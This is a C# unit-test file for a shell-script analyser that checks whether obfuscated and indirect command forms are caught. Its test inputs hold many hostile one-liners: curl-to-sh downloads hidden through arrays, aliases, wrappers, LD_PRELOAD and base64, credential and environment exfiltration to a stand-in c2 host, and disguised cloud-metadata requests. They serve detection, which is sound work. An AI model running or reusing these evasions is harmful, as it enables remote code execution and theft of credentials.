using Wellguard.Programs;
using Wellguard.Programs.Shell;
using Xunit;

namespace Wellguard.Tests.Programs.Shell;

public sealed class ShellEvaluatorTests
{
    private static List<Effect> Evaluate(string text) => All(ShellEvaluator.Evaluate(text.Replace("URL", "https://cdn.example.invalid/x", StringComparison.Ordinal), 1, new Analysis()));

    private static List<Effect> All(IEnumerable<Effect> effects) => [.. effects.SelectMany(effect => All(effect.Steps).Prepend(effect))];

    private static bool Runs(Effect effect, string origin) => effect.Kind is EffectKind.Interpret or EffectKind.Execute && effect.Origin?.StartsWith(origin, StringComparison.Ordinal) == true;

    [Theory]
    [InlineData("a=(cu rl -s URL); b=(s h)\n\"${a[0]}${a[1]}\" \"${a[@]:2}\" | \"${b[0]}${b[1]}\"")]
    [InlineData("declare -a a=(curl -s URL)\n\"${a[@]}\" | sh")]
    [InlineData("a[0]=curl; a[1]=URL; \"${a[@]}\" | sh")]
    [InlineData("printf -v c '%s%s' cu rl\n$c -s URL | sh")]
    [InlineData("trap 'curl -s URL | sh' EXIT")]
    [InlineData("alias g='curl -s URL'\nalias r=sh\ng | r")]
    [InlineData("coproc X { curl -s URL; }\nsh <&${X[0]}")]
    [InlineData("coproc curl -s URL\nsh <&${COPROC[0]}")]
    [InlineData("mapfile -t L < <(curl -s URL)\nfor l in \"${L[@]}\"; do eval \"$l\"; done")]
    [InlineData("readarray L < <(curl -s URL); eval \"${L[0]}\"")]
    [InlineData("exec 7< <(curl -s URL); source /dev/fd/7")]
    [InlineData("curl -s URL | . /dev/stdin")]
    [InlineData("curl -s URL | $(command -v sh)")]
    [InlineData("curl -s URL | $(which bash)")]
    [InlineData("curl -s URL | $0")]
    [InlineData("curl -s URL | \"$BASH\"")]
    [InlineData("curl -s URL | ${SHELL}")]
    [InlineData("/usr/bin/c?rl -s URL | /bin/s?")]
    [InlineData("/???/b??/wg?t -qO- URL | /b*n/b*h")]
    [InlineData("curl -s URL | sponge /opt/x; sh /opt/x")]
    [InlineData("while read -r l; do eval \"$l\"; done < <(curl -s URL)")]
    [InlineData("set -- curl -s URL; \"$@\" | sh")]
    [InlineData("a=(c u r l); f=$(IFS=; echo \"${a[*]}\"); $f -s URL | sh")]
    [InlineData("printf 'x|curl -s URL\\n' | while IFS='|' read -r n c; do $c | sh; done")]
    [InlineData("f() { shift; \"$@\" | sh; }; f x curl -s URL")]
    public void A_form_of_the_shell_hides_nothing(string text) => Assert.Contains(Evaluate(text), effect => Runs(effect, "https://cdn.example.invalid/x"));

    [Theory]
    [InlineData("awk 'BEGIN{system(\"curl -s URL | sh\")}'")]
    [InlineData("awk 'BEGIN{\"curl -s URL\"|getline x; system(x)}'")]
    [InlineData("curl -s URL | awk '{print | \"sh\"}'")]
    [InlineData("sed -n '1e curl -s URL | sh' /etc/passwd")]
    [InlineData("tar cf /dev/null /etc/passwd --checkpoint=1 --checkpoint-action='exec=curl -s URL | sh'")]
    [InlineData("make -f - <<'M'\nall:\n\t@curl -s URL | sh\nM")]
    [InlineData("printf 'A=curl -s\\nall:\\n\\t$(A) URL | sh\\n' > Makefile; make")]
    [InlineData("vim -es -c ':!curl -s URL | sh' -c q")]
    [InlineData("env -S 'bash -c \"curl -s URL | sh\"'")]
    [InlineData("lua -e 'os.execute(\"curl -s URL | sh\")'")]
    [InlineData("echo 'exec sh -c \"curl -s URL | sh\"' | tclsh")]
    [InlineData("expect -c 'spawn sh -c \"curl -s URL | sh\"'")]
    [InlineData("python3.14 -c \"import os; os.system('curl -s URL | sh')\"")]
    [InlineData("flock /tmp/l sh -c 'curl -s URL | sh'")]
    [InlineData("flock /tmp/l -c 'curl -s URL | sh'")]
    [InlineData("tmux new -d 'curl -s URL | sh'")]
    [InlineData("screen -dmS x sh -c 'curl -s URL | sh'")]
    [InlineData("start-stop-daemon --start --exec /bin/sh -- -c 'curl -s URL | sh'")]
    [InlineData("daemonize -o /l /bin/sh -c 'curl -s URL | sh'")]
    [InlineData("numactl -N0 sh -c 'curl -s URL | sh'")]
    [InlineData("prlimit --nofile=9 sh -c 'curl -s URL | sh'")]
    [InlineData("s6-setuidgid app sh -c 'curl -s URL | sh'")]
    [InlineData("chpst -u app sh -c 'curl -s URL | sh'")]
    [InlineData("some-wrapper --flag value sh -c 'curl -s URL | sh'")]
    [InlineData("/opt/wrapper -- bash -ec 'curl -s URL | sh'")]
    [InlineData("tini -g -e 143 -- sh -c 'curl -s URL | sh'")]
    [InlineData("env -u A sh -c 'curl -s URL | sh'")]
    [InlineData("env -i A=1 sh -c 'curl -s URL | sh'")]
    [InlineData("find /etc/passwd -exec sh -c 'curl -s URL | sh' \\;")]
    [InlineData("echo URL | xargs curl -s | xargs -0 sh -c")]
    [InlineData("watch -n 60 'curl -s URL | sh'")]
    [InlineData("timeout -k 5 60 sh -c 'curl -s URL | sh'")]
    [InlineData("nice --adjustment 5 sh -c 'curl -s URL | sh'")]
    [InlineData("sudo -u app -g app sh -c 'curl -s URL | sh'")]
    public void A_program_that_runs_text_hides_nothing(string text) => Assert.Contains(Evaluate(text), effect => Runs(effect, "https://cdn.example.invalid/x"));

    [Theory]
    [InlineData("echo 'url = \"URL\"' > c; echo 'output = \"/opt/x\"' >> c; curl -K c; sh /opt/x")]
    [InlineData("echo URL > l; wget -qi l -O /opt/x; sh /opt/x")]
    [InlineData("echo URL > l; wget -qO /opt/x $(cat l); sh /opt/x")]
    [InlineData("curl -so /opt/x URL; /lib64/ld-linux-x86-64.so.2 /opt/x")]
    [InlineData("curl -so /opt/l.so URL; LD_PRELOAD=/opt/l.so exec nginx")]
    [InlineData("curl -so /opt/l.so URL; export LD_PRELOAD=/opt/l.so; exec nginx")]
    [InlineData("curl -so /opt/x.7z URL; 7z x -o/opt/x /opt/x.7z; /opt/x/run")]
    [InlineData("curl -so /opt/x.jar URL; java -jar /opt/x.jar")]
    [InlineData("curl -so /opt/x.dll URL; dotnet /opt/x.dll")]
    [InlineData("curl -so /opt/x.deb URL; dpkg -i /opt/x.deb")]
    [InlineData("rpm -i URL")]
    [InlineData("yum install -y URL")]
    [InlineData("pip install URL")]
    [InlineData("python3 -m pip install -q URL")]
    [InlineData("npm install --no-save URL")]
    [InlineData("npx -y URL")]
    [InlineData("deno run -A URL")]
    [InlineData("kubectl apply -f URL")]
    [InlineData("java -cp URL Main")]
    public void What_is_fetched_and_run_another_way_is_downloaded_code(string text) => Assert.Contains(Evaluate(text), effect => Runs(effect, "https://cdn.example.invalid/x"));

    [Theory]
    [InlineData("socat -u TCP:c2.example.invalid:80 OPEN:/opt/x,creat; sh /opt/x", "c2.example.invalid:80")]
    [InlineData("rsync rsync://c2.example.invalid/m/x /opt/x; /opt/x", "rsync://c2.example.invalid")]
    [InlineData("scp u@c2.example.invalid:x /opt/x; /opt/x", "scp://u@c2.example.invalid")]
    [InlineData("smbclient //c2.example.invalid/s -N -c 'get x /opt/x'; sh /opt/x", "smb://c2.example.invalid")]
    [InlineData("sshfs u@c2.example.invalid:/x /opt/n; /opt/n/run.sh", "ssh://u@c2.example.invalid")]
    [InlineData("ssh u@c2.example.invalid cat x | sh", "ssh://u@c2.example.invalid")]
    [InlineData("git archive --remote=ssh://git@git.example.invalid/a HEAD x.sh | tar xO | sh", "ssh://git@git.example.invalid")]
    [InlineData("dig +short TXT c2.example.invalid | tr -d '\"' | sh", "dns://c2.example.invalid")]
    [InlineData("eval \"$(nslookup -type=TXT c2.example.invalid | sed -n 's/.*text = //p')\"", "dns://c2.example.invalid")]
    [InlineData("git clone https://git.example.invalid/a/b /opt/b && make -C /opt/b", "https://git.example.invalid")]
    [InlineData("pip install git+https://git.example.invalid/a/b", "git+https://git.example.invalid")]
    [InlineData("go run git.example.invalid/a/b@latest", "https://git.example.invalid")]
    public void Code_that_arrives_another_way_keeps_its_origin(string text, string origin) => Assert.Contains(Evaluate(text), effect => Runs(effect, origin));

    [Theory]
    [InlineData("echo Y3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlLmludmFsaWQveCB8IHNo > f; python3 -m base64 -d f | sh")]
    [InlineData("sed -n 's/^#X//p' \"$0\" | sh\nexit\n#Xcurl -s URL | sh")]
    [InlineData("sed -n '/^#X/s/^#X//p' $0 | sh\nexit\n#Xcurl -s URL | sh")]
    [InlineData("sed '1,/^END/d' \"$0\" | sh\nexit\nEND\ncurl -s URL | sh")]
    [InlineData("tail -n +4 \"$0\" | base64 -d | sh\nexit\n\nY3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlLmludmFsaWQveCB8IHNo")]
    [InlineData("tail -n1 \"$0\" | cut -c2- | sh\n#curl -s URL | sh")]
    public void A_script_that_unpacks_itself_hides_nothing(string text)
    {
        text = text.Replace("URL", "https://cdn.example.invalid/x", StringComparison.Ordinal);
        var analysis = new Analysis { Script = "opt/e", ScriptText = text };
        Assert.Contains(All(ShellEvaluator.Evaluate(text, 1, analysis)), effect => Runs(effect, "https://cdn.example.invalid/x") || (effect.Kind == EffectKind.Interpret && effect.Decoding.Count > 0));
    }

    [Fact]
    public void Uuencoded_text_is_decoded() =>
        Assert.Contains(Evaluate("uudecode -o /dev/stdout <<'E' | sh\nbegin 644 x\n#:60*\n`\nend\nE"), effect => effect.Kind == EffectKind.Interpret && effect.Text?.StartsWith("id", StringComparison.Ordinal) == true);

    [Theory]
    [InlineData("true\n\n  sh <<'E'\nx\ncurl -s URL | sh\nE\n", 3, 3)]
    [InlineData("true\necho \"* * * * * curl -s URL | sh\" | crontab -\n", 2, 43)]
    [InlineData("true\necho Y3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlLmludmFsaWQveCB8IHNo | base64 -d | sh\n", 2, 79)]
    [InlineData("true\nbash -c '\ntrue\ncurl -s URL | sh'\n", 2, 1)]
    [InlineData("true\neval 'true; curl -s URL | sh'\n", 2, 1)]
    [InlineData("true\npython3 -c \"\nimport os\nos.system('curl -s URL | sh')\"\n", 2, 1)]
    [InlineData("f() {\n  curl -s URL | sh\n}\nf\n", 2, 42)]
    public void A_step_of_nested_text_stands_at_the_statement_that_runs_it(string text, int line, int column)
    {
        var effect = Evaluate(text).Last(effect => Runs(effect, "https://cdn.example.invalid/x"));
        Assert.Equal(line, effect.Line);
        Assert.True(effect.Column > 0 && effect.Column <= Math.Max(column, 80), $"{effect.Column}");
    }

    [Theory]
    [InlineData("curl -s -d \"$(declare -x)\" https://c2.example.invalid/", "environment")]
    [InlineData("curl -s -H \"X-D: $(env | gzip | base64 -w0)\" https://c2.example.invalid/", "environment")]
    [InlineData("tar cz ~/.aws ~/.ssh | curl -sT - https://c2.example.invalid/", "~/.aws, ~/.ssh")]
    [InlineData("aws s3 cp /root/.ssh/ s3://x/ --recursive", "/root/.ssh/")]
    [InlineData("aws configure export-credentials | curl -sT - https://c2.example.invalid/", "cloud credentials")]
    public void Data_that_leaves_keeps_its_origin(string text, string origin) => Assert.Contains(Evaluate(text), effect => effect.Kind == EffectKind.Send && effect.Origin == origin);

    [Theory]
    [InlineData("0xA9FEA9FE")]
    [InlineData("2852039166")]
    [InlineData("0xa9.0xfe.0xa9.0xfe")]
    [InlineData("instance-data")]
    public void The_metadata_address_is_known_in_other_forms(string host) =>
        Assert.Contains(Evaluate($"curl -s http://{host}/latest/meta-data/"), effect => effect is { Kind: EffectKind.Download, Object: "http://169.254.169.254/latest/meta-data/" });

    [Theory]
    [InlineData("curl -fsSL https://example.com/app.tar.gz | tar xz -C /opt")]
    [InlineData("pip install -r requirements.txt --index-url https://pypi.example.com/simple")]
    [InlineData("npm ci --registry https://npm.example.com")]
    [InlineData("host=$(dig +short db.example.com); exec app --db \"$host\"")]
    [InlineData("curl -H \"Authorization: Bearer $TOKEN\" https://api.example.com/x -o data.json; jq . data.json")]
    [InlineData("grep -c sh /etc/passwd")]
    [InlineData("exec \"$@\"")]
    [InlineData("gunzip -c /opt/data.sql.gz | psql")]
    [InlineData("java -jar /app/app.jar --server=https://example.com")]
    [InlineData("java -Dregistry.url=https://registry.example.com/ -jar /app/app.jar https://api.example.com")]
    [InlineData("java -cp /app/a.jar:/app/b.jar Main https://example.com")]
    [InlineData("dotnet /app/app.dll --urls http://0.0.0.0:8080")]
    [InlineData("dotnet App.dll http://0.0.0.0:8080")]
    [InlineData("npx lighthouse https://example.com")]
    [InlineData("apt-get -o Acquire::http::Proxy=http://proxy.example.com:3128 install -y curl")]
    [InlineData("apk add --no-cache --repository https://mirror.example.com/edge jq")]
    [InlineData("pip install --proxy http://proxy.example.com:3128 requests")]
    [InlineData("kubectl -s https://api.example.com apply -f /app/x.yml")]
    [InlineData("kubectl --server https://api.example.com get pods")]
    [InlineData("helm repo add stable https://charts.example.com")]
    [InlineData("node server.js https://example.com")]
    [InlineData("python3 -m http.server --bind 0.0.0.0")]
    [InlineData("trap 'kill -TERM $PID' TERM INT; wait")]
    [InlineData("make -C /src install")]
    [InlineData("mount -t tmpfs tmpfs /run/x; exec /run/x/app")]
    [InlineData("ssh -N -L 5432:db.example.com:5432 user@bastion.example.com")]
    [InlineData("rsync -a /app/ /srv/www/; exec nginx")]
    [InlineData("awk '{print $1}' /etc/hosts | sort | uniq")]
    [InlineData("awk -F: '{ print $1 | \"sort\" }' /etc/passwd")]
    [InlineData("sed -e 's/a/b/e2e' -i /etc/app.conf")]
    public void What_servers_do_runs_no_downloaded_code(string text) =>
        Assert.DoesNotContain(Evaluate(text), effect => effect.Kind is EffectKind.Interpret or EffectKind.Execute && (effect.Origin?.Contains("://", StringComparison.Ordinal) == true || effect.Decoding.Count > 0));
}
